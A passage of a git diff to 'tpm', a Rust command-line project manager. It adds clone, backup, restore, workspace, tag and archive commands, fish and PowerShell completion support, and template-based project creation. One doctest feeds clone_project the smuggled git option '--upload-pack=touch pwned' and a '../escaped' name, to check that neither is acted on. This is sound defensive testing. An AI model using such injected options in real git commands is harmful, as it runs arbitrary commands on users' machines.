+                    OpenAction::OpenInTmux
+                } else if open_matches.is_present("reuse_shell") {
+                    OpenAction::PrintCd
+                } else if open_matches.is_present("editor") || open_matches.is_present("editor_cmd")
+                {
                     OpenAction::OpenInEditor
                 } else {
                     OpenAction::OpenInTerminal
                 };
 
-                let replace_editor = open_matches.is_present("replace");
+                let options = OpenOptions {
+                    replace_editor: open_matches.is_present("replace"),
+                    background: open_matches.is_present("background"),
+                    select_file: open_matches.is_present("select_file"),
+                    env: open_matches
+                        .values_of("env")
+                        .unwrap_or_default()
+                        .map(parse_env_var)
+                        .collect::<Result<_, _>>()?,
+                    editor_cmd: open_matches.value_of("editor_cmd").map(String::from),
+                    subdir: open_matches.value_of("subdir").map(String::from),
+                    dry_run: open_matches.is_present("dry_run"),
+                };
 
-                return open_project(name, open_action, replace_editor);
+                if names.len() > 1 && open_action == OpenAction::OpenInTerminal {
+                    return Err(
+                        "Only one project can be opened in the terminal, use --editor to open several"
+                            .into(),
+                    );
+                }
+                let outcomes = names
+                    .iter()
+                    .map(|name| open_project(name, open_action, &options))
+                    .collect::<Result<Vec<_>, _>>()?;
+                return Ok(combine_outcomes(outcomes));
             }
         }
         ("new", new_matches) => {
@@ -349,45 +1116,228 @@ pub fn handler(arg_matches: &ArgMatches) -> Result<String, DynErr> {
                 .value_of("name")
                 .unwrap_or(new_matches.value_of("project_name").unwrap_or(""));
             if name.is_empty() {
-                return show_new_project_interface();
+                return nav_or_home(show_new_project_interface()?);
+            } else {
+                return new_project(
+                    name,
+                    "",
+                    new_matches.value_of("template"),
+                    new_matches.is_present("force"),
+                );
+            }
+        }
+        ("clone", clone_matches) => {
+            return clone_project(
+                clone_matches.value_of("url").unwrap_or_default(),
+                clone_matches.value_of("project_name"),
+            );
+        }
+        ("backup", backup_matches) => {
+            let keep = backup_matches
+                .value_of("keep")
+                .unwrap_or(DEFAULT_BACKUPS_TO_KEEP)
+                .parse::<usize>()
+                .map_err(|_| "--keep must be a number")?;
+            let backup = backup_projects(keep)?;
+            return Ok(HandlerOutcome::Message(format!(
+                "Backed up projects to {:?}",
+                backup
+            )));
+        }
+        ("restore", restore_matches) => {
+            let backup = if restore_matches.is_present("latest") {
+                list_backups()?
+                    .pop()
+                    .ok_or("No backups found, run `tpm backup` first")?
             } else {
-                return new_project(name, "");
+                let backup = restore_matches.value_of("backup").unwrap_or_default();
+                let in_backups_dir = get_backups_dir()?.join(backup);
+                if in_backups_dir.is_file() {
+                    in_backups_dir
+                } else {
+                    PathBuf::from(backup)
+                }
+            };
+            return restore_backup(&backup).map(HandlerOutcome::Message);
+        }
+        ("undo", _) => return restore_last_snapshot().map(HandlerOutcome::Message),
+        ("export", export_matches) => {
+            let file = export_matches.value_of("file").map(Path::new);
+            let format = match export_matches.value_of("format") {
+                Some(format) => format.parse()?,
+                None => file
+                    .and_then(|file| file.extension())
+                    .and_then(|extension| extension.to_str()?.parse().ok())
+                    .unwrap_or_default(),
+            };
+            return export_projects(file, format).map(HandlerOutcome::Message);
+        }
+        ("import", import_matches) => {
+            return import_projects(Path::new(
+                import_matches.value_of("file").unwrap_or_default(),
+            ))
+            .map(HandlerOutcome::Message);
+        }
+        ("move", move_matches) => {
+            let name = move_matches.value_of("project_name").unwrap_or_default();
+            let new_path = move_matches.value_of("new_path").unwrap_or_default();
+            return move_project(name, new_path).map(HandlerOutcome::Message);
+        }
+        ("rename", rename_matches) => {
+            let old_name = rename_matches.value_of("old_name").unwrap_or_default();
+            let new_name = rename_matches.value_of("new_name").unwrap_or_default();
+            return rename_project(old_name, new_name).map(HandlerOutcome::Message);
+        }
+        ("recent", recent_matches) => {
+            let count = match recent_matches.value_of("count") {
+                Some(count) => count
+                    .parse::<usize>()
+                    .map_err(|_| format!("Invalid count: {}", count))?,
+                None => 10,
+            };
+            let lines = with_projects(|projects| {
+                recent_projects(projects, count)
+                    .iter()
+                    .map(|p| format!("{}  {}", p, format_relative_time(p.last_opened)))
+                    .collect::<Vec<_>>()
+            })?;
+            return Ok(HandlerOutcome::Message(lines.join("\n")));
+        }
+        ("shell-init", shell_init_matches) => {
+            return gen_shell_init(
+                shell_init_matches.value_of("shell").unwrap_or_default(),
+                shell_init_matches.value_of("name").unwrap_or(APP_NAME),
+            )
+            .map(HandlerOutcome::Message);
+        }
+        ("touch", touch_matches) => {
+            return touch_project(touch_matches.value_of("project_name").unwrap_or_default())
+                .map(HandlerOutcome::Message);
+        }
+        ("stats", _) => {
+            return Ok(HandlerOutcome::Message(
+                with_projects(compute_stats)??.to_string(),
+            ));
+        }
+        ("doctor", _) => {
+            return run_doctor().map(HandlerOutcome::Message);
+        }
+        ("prune", prune_matches) => {
+            let days = prune_matches
+                .value_of("days")
+                .unwrap_or("90")
+                .parse::<u64>()
+                .map_err(|_| "--days must be a number")?;
+            return prune_projects(days, prune_matches.is_present("delete_dirs"));
+        }
+        ("info", _) => {
+            return get_info().map(HandlerOutcome::Message);
+        }
+        ("workspace", workspace_matches) => match workspace_matches.subcommand() {
+            Some(("add", add_matches)) => {
+                return add_workspace(
+                    add_matches.value_of("workspace_name").unwrap_or_default(),
+                    &add_matches
+                        .values_of("project_name")
+                        .unwrap_or_default()
+                        .collect::<Vec<_>>(),
+                );
+            }
+            Some(("open", open_matches)) => {
+                return open_workspace(open_matches.value_of("workspace_name").unwrap_or_default());
             }
+            _ => {
+                return Ok(HandlerOutcome::Message(format_workspaces(
+                    &load_workspaces()?,
+                )));
+            }
+        },
+        ("rename-tag", rename_tag_matches) => {
+            return rename_tag(
+                rename_tag_matches.value_of("old_tag").unwrap_or_default(),
+                rename_tag_matches.value_of("new_tag").unwrap_or_default(),
+            )
+            .map(HandlerOutcome::Message);
+        }
+        ("delete-tag", delete_tag_matches) => {
+            return delete_tag(delete_tag_matches.value_of("tag").unwrap_or_default())
+                .map(HandlerOutcome::Message);
+        }
+        ("archive", archive_matches) => {
+            return archive_project(archive_matches.value_of("project_name").unwrap_or_default())
+                .map(HandlerOutcome::Message);
+        }
+        ("unarchive", unarchive_matches) => {
+            return unarchive_project(
+                unarchive_matches
+                    .value_of("project_name")
+                    .unwrap_or_default(),
+            )
+            .map(HandlerOutcome::Message);
         }
         _ => {
             return show_home_interface("What would you like to do?");
         }
     };
 
-    Ok("Goodbye!".into())
+    Ok(HandlerOutcome::Completed)
 }
 
-/// Increments the number of visits to the home interface by one.
-///
-/// # Safety
-///
-/// This function uses unsafe code to access a shared resource (`HOME_INTERFACE_VISITS`)
-/// without any form of synchronization. It is the caller's responsibility to ensure
-/// that this function is only called from a single thread at a time, or to provide
-/// appropriate synchronization mechanisms to prevent data races.
-pub fn increment_visits() -> Result<(), DynErr> {
-    unsafe {
-        let mut visits = HOME_INTERFACE_VISITS.lock()?;
-        *visits += 1;
+/// Combines the outcomes of opening several projects into one, which is
+/// `Canceled` only if every one of them was.
+fn combine_outcomes(outcomes: Vec<HandlerOutcome>) -> HandlerOutcome {
+    if outcomes
+        .iter()
+        .all(|outcome| *outcome == HandlerOutcome::Canceled)
+    {
+        return HandlerOutcome::Canceled;
+    }
+    let mut opened = vec![];
+    let mut messages = vec![];
+    for outcome in outcomes {
+        match outcome {
+            HandlerOutcome::OpenedProjects { names, message } => {
+                opened.extend(names);
+                messages.push(message);
+            }
+            HandlerOutcome::Canceled | HandlerOutcome::Completed => {}
+            HandlerOutcome::AddedProject { message, .. } | HandlerOutcome::Message(message) => {
+                messages.push(message)
+            }
+        }
+    }
+    let message = messages.join("\n");
+    if opened.is_empty() {
+        HandlerOutcome::Message(message)
+    } else {
+        HandlerOutcome::OpenedProjects {
+            names: opened,
+            message,
+        }
     }
+}
+
+/// Increments the number of visits to the home interface by one.
+pub(crate) fn increment_visits() -> Result<(), DynErr> {
+    let mut visits = HOME_INTERFACE_VISITS.lock()?;
+    *visits += 1;
     Ok(())
 }
 
-pub fn get_visits() -> Result<usize, DynErr> {
-    unsafe {
-        let visits = HOME_INTERFACE_VISITS.lock()?;
-        Ok(*visits)
-    }
+pub(crate) fn get_visits() -> Result<usize, DynErr> {
+    let visits = HOME_INTERFACE_VISITS.lock()?;
+    Ok(*visits)
 }
 
 /// the app name, used everywhere
 pub const APP_NAME: &str = "tpm";
-pub const VALID_SHELLS: [&str; 2] = ["bash", "zsh"];
+pub const VALID_SHELLS: [&str; 4] = ["bash", "zsh", "fish", "powershell"];
+pub const DEFAULT_BACKUPS_TO_KEEP: &str = "10";
+/// The file in the config directory `open --reuse-shell` writes the project
+/// path to
+pub const LAST_CD_FILE: &str = "last_cd";
+/// How many invalid answers an interactive form accepts before giving up
+pub const MAX_PROMPT_ATTEMPTS: usize = 5;
 pub const VERSION: &str = env!("CARGO_PKG_VERSION");
 pub const ABOUT: &str = env!("CARGO_PKG_DESCRIPTION");
 
@@ -403,20 +1353,37 @@ pub const WELCOME_SCREEN: &str = r"
 #[derive(Debug, Clone, Copy, PartialEq)]
 pub enum Action {
     Open,
-    Delete,
+    /// Delete projects, or only print what would be deleted if `dry_run` is
+    /// set. Their directories are only deleted if `delete_dirs` is set.
+    Delete {
+        dry_run: bool,
+        delete_dirs: bool,
+    },
     Edit,
 }
 
-/// gets the current shell from the SHELL environment variable
-///
-/// if shell is not in VALID_SHELLS, exits with an error
-pub fn get_current_shell() -> Result<String, DynErr> {
-    let shell = env::var("SHELL").unwrap_or_else(|_| "/bin/sh".to_string());
-    let shell = shell.split('/').last().unwrap_or("sh");
+/// gets the name of the current shell from the SHELL environment variable,
+/// assuming PowerShell on Windows when it isn't set
+pub(crate) fn detect_shell() -> String {
+    let default_shell = if cfg!(windows) {
+        "powershell"
+    } else {
+        "/bin/sh"
+    };
+    let shell = env::var("SHELL").unwrap_or_else(|_| default_shell.to_string());
+    let shell = Path::new(&shell)
+        .file_stem()
+        .and_then(|name| name.to_str())
+        .unwrap_or("sh");
+    let shell = if shell == "pwsh" { "powershell" } else { shell };
+    shell.to_string()
+}
 
+/// errors if completions can't be installed for the shell, i.e. it is not in
+/// VALID_SHELLS
+pub(crate) fn validate_completion_shell(shell: &str) -> Result<(), DynErr> {
     if VALID_SHELLS.contains(&shell) {
-        println!("Detected shell: {shell}");
-        return Ok(shell.to_string());
+        return Ok(());
     }
 
     let msg = format!(
@@ -426,11 +1393,20 @@ pub fn get_current_shell() -> Result<String, DynErr> {
     Err(msg.into())
 }
 
-pub fn get_path_to_shell_profile(shell: &str) -> Result<PathBuf, DynErr> {
-    let home_dir = PathBuf::from(env::var("HOME").unwrap_or("/".to_string()));
+pub(crate) fn get_path_to_shell_profile(shell: &str) -> Result<PathBuf, DynErr> {
+    let home_dir = home_dir();
     let path = match shell {
         "bash" => home_dir.join(".bash_profile"),
         "zsh" => home_dir.join(".zshrc"),
+        "fish" => home_dir.join(".config").join("fish").join("config.fish"),
+        "powershell" if cfg!(windows) => home_dir
+            .join("Documents")
+            .join("PowerShell")
+            .join("Microsoft.PowerShell_profile.ps1"),
+        "powershell" => home_dir
+            .join(".config")
+            .join("powershell")
+            .join("Microsoft.PowerShell_profile.ps1"),
         _ => {
             return Err("Invalid shell".into());
         }
@@ -438,41 +1414,112 @@ pub fn get_path_to_shell_profile(shell: &str) -> Result<PathBuf, DynErr> {
     Ok(path)
 }
 
-pub fn gen_completions(shell: &str) -> Result<String, DynErr> {
-    let script = include_str!("completions.sh");
+/// Returns a shell function named `fn_name` that wraps `tpm`, changing the
+/// current shell's directory for `<fn_name> open <name>` instead of starting a
+/// new shell.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::gen_shell_init;
+///
+/// let script = gen_shell_init("bash", "tp").unwrap();
+/// assert!(script.starts_with("tp() {"));
+/// assert!(script.contains("command tpm open \"$2\" --print-path"));
+/// assert!(gen_shell_init("bash", "not a name").is_err());
+/// ```
+pub fn gen_shell_init(shell: &str, fn_name: &str) -> Result<String, DynErr> {
+    let script = match shell {
+        "bash" | "zsh" => include_str!("shell_init.sh"),
+        "fish" => include_str!("shell_init.fish"),
+        "powershell" => include_str!("shell_init.ps1"),
+        _ => return Err(format!("Invalid shell: {}", shell).into()),
+    };
+    if fn_name.is_empty() || !fn_name.chars().all(|c| filter_valid_name(&c)) {
+        return Err(format!(
+            "Invalid function name: {}. Use only letters, numbers, - and _",
+            fn_name
+        )
+        .into());
+    }
+
+    Ok(script
+        .replace("{%fn_name%}", fn_name)
+        .replace("{%app_name%}", APP_NAME)
+        .trim_end()
+        .to_string())
+}
+
+/// Returns the completion script for `shell`, which reads project names from
+/// `config_dir`.
+///
+/// # Examples
+///
+/// ```
+/// use std::path::Path;
+/// use tpm_lib::build_completion_script;
+///
+/// let script = build_completion_script("bash", Path::new("/home/me/.config/tpm")).unwrap();
+/// assert!(script.contains("/home/me/.config/tpm"));
+/// assert!(build_completion_script("sh", Path::new("/")).is_err());
+/// ```
+pub fn build_completion_script(shell: &str, config_dir: &Path) -> Result<String, DynErr> {
+    validate_completion_shell(shell)?;
 
-    let config_dir = get_config_dir()?.canonicalize()?;
+    let script = match shell {
+        "fish" => include_str!("completions.fish"),
+        "powershell" => include_str!("completions.ps1"),
+        _ => include_str!("completions.sh"),
+    };
     let config_dir_str = config_dir
         .to_str()
         .ok_or("Problem converting config dir to string")?;
-    let script = script
+
+    Ok(script
         .replace("{%app_name%}", APP_NAME)
-        .replace("{%config_dir%}", config_dir_str);
+        .replace("{%config_dir%}", config_dir_str))
+}
 
-    let completions_filename = format!("{}_completions.sh", APP_NAME);
+pub(crate) fn gen_completions(shell: &str) -> Result<String, DynErr> {
+    let config_dir = get_config_dir()?.canonicalize()?;
+    let script = build_completion_script(shell, &config_dir)?;
+    let extension = match shell {
+        "fish" => "fish",
+        "powershell" => "ps1",
+        _ => "sh",
+    };
+
+    let completions_filename = format!("{}_completions.{}", APP_NAME, extension);
     let completions_file = config_dir.join(&completions_filename);
     let mut file = File::create(&completions_file)?;
     file.write_all(script.as_bytes())?;
 
     let shell_profile = get_path_to_shell_profile(shell)?;
-    let mut file = fs::OpenOptions::new().append(true).open(&shell_profile)?;
-    let script = format!(
-        "\n# {} completions\nsource {}\n",
-        APP_NAME,
-        completions_file
-            .to_str()
-            .ok_or("Problem converting completions file to string")?
-    );
+    if let Some(profile_dir) = shell_profile.parent() {
+        fs::create_dir_all(profile_dir)?;
+    }
+    let mut file = fs::OpenOptions::new()
+        .append(true)
+        .create(true)
+        .open(&shell_profile)?;
+    let completions_file_str = completions_file
+        .to_str()
+        .ok_or("Problem converting completions file to string")?;
+    let source_line = match shell {
+        "powershell" => format!(". '{}'", completions_file_str),
+        _ => format!("source {}", completions_file_str),
+    };
+    let script = format!("\n# {} completions\n{}\n", APP_NAME, source_line);
 
     // check if the file already contains the script
     let mut contents = String::new();
     let mut read_file = File::open(&shell_profile)?;
     read_file.read_to_string(&mut contents)?;
 
-    // check if contents contains `source path/to/{APP_NAME}_completions.sh`
+    // check if contents sources `path/to/{APP_NAME}_completions.{sh,fish,ps1}`
     if contents
         .lines()
-        .any(|line| line.contains("source") && line.contains(&completions_filename))
+        .any(|line| line.contains(&completions_filename) && !line.starts_with('#'))
     {
         let msg = format!(
             "Completions already installed for {:?} in {:?}",
@@ -497,66 +1544,229 @@ pub fn gen_completions(shell: &str) -> Result<String, DynErr> {
     Ok(msg.to_string())
 }
 
-pub fn show_new_project_interface() -> Result<String, DynErr> {
-    let name = Input::<String>::new()
-        .with_prompt("Project name")
-        .interact_text()
-        .unwrap_or_default();
+/// Asks for a name, path and template, then creates the project.
+///
+/// An empty name goes back to where the user came from, and an empty path or
+/// pressing Esc on the template goes back to the name.
+///
+/// Gives up with an error after [`MAX_PROMPT_ATTEMPTS`] invalid answers.
+pub(crate) fn show_new_project_interface() -> Result<NavResult, DynErr> {
+    for _ in 0..MAX_PROMPT_ATTEMPTS {
+        let name = read_input(
+            Input::<String>::new()
+                .with_prompt("Project name (empty to go back)")
+                .allow_empty(true),
+        )?;
 
-    if name.trim().is_empty() {
-        println!("Name cannot be empty");
-        return show_new_project_interface();
-    }
+        if name.trim().is_empty() {
+            return Ok(NavResult::Back);
+        }
 
-    if project_already_exists(name.trim()) {
-        println!("A project with that name already exists");
-        return show_new_project_interface();
-    }
+        let name_taken = with_projects(|projects| check_name_available(projects, "", &name));
+        if matches!(name_taken, Ok(Err(_))) {
+            println!("A project with that name already exists");
+            continue;
+        }
 
-    let home_dir = PathBuf::from(env::var("HOME").unwrap_or("/".to_string()));
-    let project_folder = home_dir.join("projects");
-    let name_normalized: String = name
-        .trim()
-        .replace(' ', "-")
-        .chars()
-        .filter(filter_valid_name)
-        .collect();
-    let default_path_string = project_folder
-        .join(name_normalized)
-        .to_str()
-        .ok_or("Problem converting default path to string")?
-        .to_string();
-    let path: String = Input::new()
-        .with_prompt("Project path")
-        .default(default_path_string)
-        .interact_text()?;
+        let project_folder = default_projects_dir();
+        let name_normalized: String = name
+            .trim()
+            .replace(' ', "-")
+            .chars()
+            .filter(filter_valid_name)
+            .collect();
+        let default_path_string = project_folder
+            .join(name_normalized)
+            .to_str()
+            .ok_or("Problem converting default path to string")?
+            .to_string();
+        let path = read_input(
+            Input::<String>::new()
+                .with_prompt("Project path")
+                .default(default_path_string),
+        )?;
 
-    if path.trim().is_empty() {
-        println!("Path cannot be empty");
-        return show_new_project_interface();
-    }
+        if path.trim().is_empty() {
+            continue;
+        }
+
+        let path_taken =
+            with_projects(|projects| find_project_by_path(projects, path.trim()).is_some());
+        if path_taken.unwrap_or_default() {
+            println!("A project with that path already exists");
+            continue;
+        }
 
-    if project_already_exists(path.trim()) {
-        println!("A project with that path already exists");
-        return show_new_project_interface();
+        let templates = list_templates();
+        let template = if templates.is_empty() {
+            None
+        } else {
+            let mut items = vec!["None".to_string()];
+            items.extend(templates.iter().cloned());
+            let selection = Select::with_theme(&ColorfulTheme::default())
+                .with_prompt("Template")
+                .items(&items)
+                .default(0)
+                .interact_opt()?;
+            match selection {
+                Some(selection) => selection
+                    .checked_sub(1)
+                    .map(|index| templates[index].as_str()),
+                None => continue,
+            }
+        };
+
+        return match new_project(name.trim(), path.trim(), template, false) {
+            Ok(HandlerOutcome::Canceled) => Ok(NavResult::Back),
+            Ok(outcome) => Ok(NavResult::Done(outcome)),
+            Err(err) => {
+                println!("{}", err);
+                continue;
+            }
+        };
     }
 
-    return new_project(name.trim(), path.trim());
+    Err(too_many_attempts())
 }
 
-pub fn new_project(name: &str, path: &str) -> Result<String, DynErr> {
+/// Shows a text prompt, turning closed or redirected input into an error so
+/// interactive forms stop instead of asking again forever.
+pub(crate) fn read_input(input: Input<String>) -> Result<String, DynErr> {
+    input.interact_text().map_err(|err| match err {
+        dialoguer::Error::IO(err)
+            if matches!(
+                err.kind(),
+                io::ErrorKind::UnexpectedEof | io::ErrorKind::NotConnected
+            ) =>
+        {
+            "No input to read, stdin was closed or isn't a terminal".into()
+        }
+        err => err.into(),
+    })
+}
+
+fn too_many_attempts() -> DynErr {
+    format!("Giving up after {} invalid answers", MAX_PROMPT_ATTEMPTS).into()
+}
+
+/// Creates a new project directory and adds it as a project, then opens it.
+///
+/// If `template` is given, the contents of that template directory (see
+/// [`list_templates`]) are copied into the new project. A missing template is
+/// an error, and no directory is created.
+///
+/// Missing parent directories are created along with the project directory,
+/// once nothing else can fail. If a project with the same name already exists
+/// and the user doesn't overwrite it, the directories are removed again.
+///
+/// An existing directory is an error, unless `force` is set and it isn't
+/// already a project. With `force`, an empty directory is used as is, and a
+/// non-empty one only after asking.
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use std::{env, fs};
+/// use tpm_lib::{add_project, new_project};
+///
+/// let projects_dir = tmp.join("projects");
+/// fs::create_dir_all(projects_dir.join("existing")).unwrap();
+/// env::set_var("TPM_PROJECTS_DIR", &projects_dir);
+/// let existing = projects_dir.join("existing");
+/// add_project("new-duplicate-example", existing.to_str().unwrap(), &[], "").unwrap();
+///
+/// // not run interactively, so the existing project isn't overwritten
+/// let _ = new_project("new-duplicate-example", "", None, false);
+/// assert!(!projects_dir.join("new-duplicate-example").exists());
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+///
+/// Missing parent directories are created:
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use std::env;
+/// use tpm_lib::{get_projects, new_project};
+///
+/// // exit the shell the project is opened in right away
+/// env::set_var("SHELL", "true");
+/// let base = tmp.join("nested");
+/// let path = base.join("a/b/c/d");
+///
+/// // a missing template leaves no directories behind
+/// let err = new_project("new-nested-example", path.to_str().unwrap(), Some("no-such-template"), false);
+/// assert!(err.is_err());
+/// assert!(!base.exists());
+///
+/// new_project("new-nested-example", path.to_str().unwrap(), None, false).unwrap();
+/// assert!(path.is_dir());
+/// assert!(get_projects().unwrap().iter().any(|p| p.to_string().starts_with("new-nested-example ")));
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+///
+/// With `force`, an existing empty directory becomes the project, but a
+/// non-empty one isn't used without confirmation:
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use std::{env, fs};
+/// use tpm_lib::{get_projects, new_project};
+///
+/// env::set_var("SHELL", "true");
+/// let base = tmp.join("force");
+/// let empty = base.join("empty");
+/// let non_empty = base.join("non-empty");
+/// fs::create_dir_all(&empty).unwrap();
+/// fs::create_dir_all(&non_empty).unwrap();
+/// fs::write(non_empty.join("README.md"), "# hi").unwrap();
+///
+/// assert!(new_project("new-force-empty", empty.to_str().unwrap(), None, false).is_err());
+/// new_project("new-force-empty", empty.to_str().unwrap(), None, true).unwrap();
+///
+/// // not run interactively, so there's no one to confirm
+/// assert!(new_project("new-force-non-empty", non_empty.to_str().unwrap(), None, true).is_err());
+/// assert!(non_empty.join("README.md").is_file());
+///
+/// let names = get_projects()
+///     .unwrap()
+///     .iter()
+///     .map(|p| p.to_string())
+///     .collect::<Vec<_>>();
+/// assert!(names.iter().any(|name| name.starts_with("new-force-empty ")));
+/// assert!(!names.iter().any(|name| name.starts_with("new-force-non-empty ")));
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn new_project(
+    name: &str,
+    path: &str,
+    template: Option<&str>,
+    force: bool,
+) -> Result<HandlerOutcome, DynErr> {
     if name.is_empty() {
-        println!("Name cannot be empty");
-        return show_new_project_interface();
+        return Err("Name cannot be empty".into());
     }
     let mut projects = get_projects()?;
+    // a project with this exact name can be overwritten, but not shadow an alias
+    check_name_available(&projects, name, name)?;
     let name_normalized: String = name
         .replace(' ', "-")
         .chars()
         .filter(filter_valid_name)
         .collect();
-    let home_dir = PathBuf::from(env::var("HOME").unwrap_or("/".to_string()));
-    let project_folder = home_dir.join("projects");
+    let project_folder = default_projects_dir();
     let default_path_string = project_folder
         .join(name_normalized)
         .to_str()
@@ -565,17 +1775,78 @@ pub fn new_project(name: &str, path: &str) -> Result<String, DynErr> {
     let path_string = if path.is_empty() {
         default_path_string
     } else {
-        path.to_string()
+        expand_path(path)?
+            .to_str()
+            .ok_or("Problem converting path to string")?
+            .to_string()
     };
-    let path = PathBuf::from(path_string.clone())
+    let path = PathBuf::from(&path_string)
         .canonicalize()
-        .unwrap_or_else(|_| create_path_with_parent_dirs(&path_string).unwrap_or_default());
-    if path.exists() {
-        println!("A project with that path already exists");
-        println!("Path: {:?}", path);
-        return show_new_project_interface();
+        .unwrap_or_else(|_| PathBuf::from(&path_string));
+    let existing_dir = path.exists();
+    if existing_dir {
+        let path_str = path.to_str().unwrap_or_default();
+        if find_project_by_path(&projects, path_str).is_some() {
+            return Err(format!(
+                "A project with that path already exists: {}",
+                path.display()
+            )
+            .into());
+        }
+        if !force {
+            return Err(format!(
+                "{} already exists, use --force to make it the project directory",
+                path.display()
+            )
+            .into());
+        }
+        if !path.is_dir() {
+            return Err(format!("{} is not a directory", path.display()).into());
+        }
+        let is_empty = fs::read_dir(&path)?.next().is_none();
+        if !is_empty
+            && !confirm(
+                &format!("{} isn't empty. Use it anyway?", path.display()),
+                false,
+            )?
+        {
+            return Ok(HandlerOutcome::Canceled);
+        }
+    }
+    let template_dir = match template {
+        Some(template) => {
+            let template_dir = get_templates_dir()?.join(template);
+            if !template_dir.is_dir() {
+                return Err(format!(
+                    "Template {} not found. Available templates: {}",
+                    template,
+                    list_templates().join(", ")
+                )
+                .into());
+            }
+            Some(template_dir)
+        }
+        None => None,
+    };
+    // only now that nothing can stop it, so a failed check leaves no directories behind
+    let created = if existing_dir {
+        None
+    } else {
+        Some(create_dir_with_parents(&path)?)
+    };
+    if let Some(template_dir) = template_dir {
+        if let Err(err) = copy_dir_contents(&template_dir, &path) {
+            if let Some(created) = &created {
+                fs::remove_dir_all(created)?;
+            }
+            return Err(format!(
+                "Could not copy template {}: {}",
+                template_dir.display(),
+                err
+            )
+            .into());
+        }
     }
-    fs::create_dir(&path)?;
     let mut project = Project {
         name: name.to_string(),
         path: path
@@ -583,574 +1854,5708 @@ pub fn new_project(name: &str, path: &str) -> Result<String, DynErr> {
             .ok_or("Problem converting path to string")?
             .to_string(),
         last_opened: Duration::from_secs(0),
+        created_at: Duration::from_secs(0),
+        description: String::new(),
+        tags: vec![],
+        archived: false,
+        git_remote: None,
+        git_branch: None,
+        on_open: None,
+        aliases: vec![],
     };
     project.set_last_opened()?;
+    project.created_at = project.last_opened;
+    (project.git_remote, project.git_branch) = detect_git_info(&path);
     if project_already_exists(&project.name) {
-        return show_overwrite_project_interface(&project);
+        let outcome = show_overwrite_project_interface(&project);
+        let overwritten = matches!(outcome, Ok(HandlerOutcome::AddedProject { .. }));
+        if let Some(created) = created.filter(|_| !overwritten) {
+            fs::remove_dir_all(created)?;
+        }
+        return outcome;
     }
     projects.push(project.clone());
     save_projects(&projects)?;
-    open_project(&project.name, OpenAction::OpenInTerminal, false)?;
+    open_project(
+        &project.name,
+        OpenAction::OpenInTerminal,
+        &OpenOptions::default(),
+    )?;
+
+    Ok(HandlerOutcome::AddedProject {
+        name: project.name,
+        message: format!("Project {} created", name),
+    })
+}
 
-    Ok(format!("Project {} created", name))
+/// Returns the name of the repository at a git URL, i.e. its last path
+/// segment without `.git`.
+///
+/// # Examples
+///
+/// ```
+/// use tpm_lib::repo_name_from_url;
+///
+/// assert_eq!(repo_name_from_url("https://github.com/foo/bar.git").as_deref(), Some("bar"));
+/// assert_eq!(repo_name_from_url("git@github.com:foo/bar.git").as_deref(), Some("bar"));
+/// assert_eq!(repo_name_from_url("https://example.com/foo/bar/").as_deref(), Some("bar"));
+/// assert_eq!(repo_name_from_url("git@host:bar").as_deref(), Some("bar"));
+/// assert_eq!(repo_name_from_url(".git"), None);
+/// ```
+pub fn repo_name_from_url(url: &str) -> Option<String> {
+    let url = url.trim().trim_end_matches('/');
+    let last = url.rsplit(['/', ':', '\\']).next()?;
+    let name = last.strip_suffix(".git").unwrap_or(last);
+    (!name.is_empty()).then(|| name.to_string())
 }
 
-pub fn create_path_with_parent_dirs(path: &str) -> Result<PathBuf, DynErr> {
-    let path = PathBuf::from(path);
-    let parent = path.parent();
-    if parent.is_none() {
-        return Ok(path);
+/// Clones a git repository into the default projects directory (see
+/// [`default_projects_dir`]), adds it as a project, and opens it.
+///
+/// The project and its directory are named after the repository unless
+/// `name` is given. As with [`new_project`], the directory name keeps only
+/// the name's letters, digits, `-` and `_`, so it stays inside the projects
+/// directory. Returns an error, without adding a project or leaving a
+/// directory behind, if the name is taken, the directory already exists,
+/// `git clone` fails, or the project can't be added.
+///
+/// # Examples
+///
+/// ```
+/// # let tmp = std::env::temp_dir().join(format!("tpm-doctest-{}", std::process::id()));
+/// # let _ = std::fs::remove_dir_all(&tmp);
+/// # std::fs::create_dir_all(&tmp).unwrap();
+/// # std::env::set_var("HOME", &tmp);
+/// # std::env::set_var("XDG_CONFIG_HOME", tmp.join(".config"));
+/// use tpm_lib::{clone_project, default_projects_dir, get_projects};
+///
+/// // not a repository, so `git clone` fails
+/// let url = tmp.join("no-such-repo");
+/// assert!(clone_project(url.to_str().unwrap(), Some("../escaped")).is_err());
+/// assert!(!default_projects_dir().join("escaped").exists());
+/// assert!(!tmp.join("escaped").exists());
+/// assert!(get_projects().unwrap().is_empty());
+///
+/// // an option-looking URL is passed to git as a URL, not an option
+/// assert!(clone_project("--upload-pack=touch pwned", Some("opt")).is_err());
+/// assert!(!std::path::Path::new("pwned").exists());
+/// # std::fs::remove_dir_all(&tmp).unwrap();
+/// ```
+pub fn clone_project(url: &str, name: Option<&str>) -> Result<HandlerOutcome, DynErr> {
+    let name = match name.map(str::trim).filter(|name| !name.is_empty()) {
+        Some(name) => name.to_string(),
+        None => repo_name_from_url(url)
+            .ok_or_else(|| format!("Could not get a project name from {}", url))?,
+    };
+    with_projects(|projects| check_name_available(projects, "", &name))??;
+    let dir_name: String = name
+        .replace(' ', "-")
+        .chars()
+        .filter(filter_valid_name)
+        .collect();
+    if dir_name.is_empty() {
+        return Err(format!("{} can't be used as a directory name", name).into());
     }
-    let parent = parent.ok_or("Problem getting parent dir")?;
